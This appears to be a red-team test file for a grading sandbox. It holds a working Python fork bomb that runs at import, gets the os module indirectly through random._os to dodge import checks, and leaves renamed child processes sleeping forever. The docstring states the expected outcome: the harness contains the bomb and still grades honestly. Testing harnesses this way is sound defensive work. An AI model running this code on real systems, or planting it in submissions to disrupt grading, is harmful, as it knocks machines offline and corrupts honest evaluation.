"""Attack: a fork bomb at import. Every process forks until fork fails, then sleeps forever under
a recognisable name (REDTEAM["marker"]).

Expected: fork fails at the process limit; grading completes with the honest score; no process of
the bomb is left afterwards.
"""
import ctypes
import time

_os = __import__("random")._os
_original = _os.getpid()
_made = 0
while True:
    try:
        if _os.fork() == 0:
            _made = 0
            continue
        _made += 1
    except OSError:
        break
if _os.getpid() != _original:
    ctypes.CDLL(None).prctl(15, REDTEAM["marker"].encode()[:15], 0, 0, 0)
    while True:
        time.sleep(3600)
print(f"forked {_made} times before fork failed")
